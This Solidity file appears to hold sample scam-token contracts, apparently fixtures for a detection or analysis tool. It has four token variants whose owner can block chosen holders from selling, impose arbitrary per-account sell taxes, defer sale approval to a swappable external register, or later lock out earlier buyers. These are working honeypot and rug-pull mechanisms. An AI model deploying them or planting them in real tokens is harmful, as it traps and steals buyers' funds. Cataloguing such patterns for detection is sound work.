// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.24;

import {Erc20} from "zoo/base/Erc20.sol";
import {Traded} from "zoo/base/Traded.sol";

/// Anybody can sell but those whom the owner has named; nobody has been named at first.
contract VictimListToken is Traded {
    mapping(address => uint256) private _boughtIn;
    mapping(address => bool) private _named;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function name_them(address[] calldata accounts, bool named) external onlyOwner {
        for (uint256 at; at < accounts.length; ++at) _named[accounts[at]] = named;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair) _boughtIn[to] = block.number;
        require(to != pair || (!_named[from] && _boughtIn[from] < block.number), "not you");
        _move(from, to, amount);
    }
}

/// Keeps a share of the sales of those that have one of their own, and 2 percent of others'.
contract VictimTaxToken is Traded {
    mapping(address => uint256) private _shares;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setShare(address account, uint256 percent) external onlyOwner {
        _shares[account] = percent;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee;
        if (to == pair && !_isOwner(from, to)) fee = amount * (2 + _shares[from]) / 100;
        if (fee > 0) _move(from, address(this), fee);
        _move(from, to, amount - fee);
    }
}

/// A list that another contract keeps.
contract Register {
    address private immutable _keeper = msg.sender;
    mapping(address => uint256) private _marks;

    function mark(address account, uint256 value) external {
        require(msg.sender == _keeper, "not the keeper");
        _marks[account] = value;
    }

    function isMarked(address account) external view returns (bool) {
        return _marks[account] != 0;
    }
}

/// Asks a register before each sale.
contract RegisterToken is Traded {
    Register public register;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setRegister(Register register_) external onlyOwner {
        register = register_;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && address(register) != address(0)) {
            require(!register.isMarked(from), "marked");
        }
        _move(from, to, amount);
    }
}

/// Refuses those who bought before a moment that the owner sets later.
contract OldBuyersToken is Traded {
    uint256 public since;
    mapping(address => uint256) private _boughtAt;

    constructor(string memory name_, string memory symbol_, address pair_)
        Erc20(name_, symbol_)
        Traded(pair_)
    {}

    function setSince(uint256 time) external onlyOwner {
        since = time;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair) _boughtAt[to] = block.timestamp;
        if (to == pair && !_isOwner(from, to)) require(_boughtAt[from] >= since, "too old");
        _move(from, to, amount);
    }
}
